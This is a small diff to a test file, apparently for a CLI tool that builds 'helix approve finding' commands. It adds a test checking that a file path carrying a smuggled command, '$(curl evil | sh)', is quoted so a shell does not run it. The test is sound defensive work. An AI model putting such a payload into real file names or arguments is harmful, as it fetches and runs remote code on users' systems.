@@ -64,3 +64,10 @@ describe('what mends a commit that is there', () => {
     expect(mendInHistory(note, [note], at(tip))).toBe(note)
   })
 })
+
+test('a name of a file that a shell would run is written so that it does not', () => {
+  const landed: Finding = { ...finding('MSG-PATH'), where: { path: 'src/$(curl evil | sh).js' } }
+  expect(fixOf(landed, at(tip, { landed: true }))).toBe(
+    `helix approve finding MSG-PATH 'src/$(curl evil | sh).js' --until <YYYY-MM-DD> --why "<reason>"`,
+  )
+})
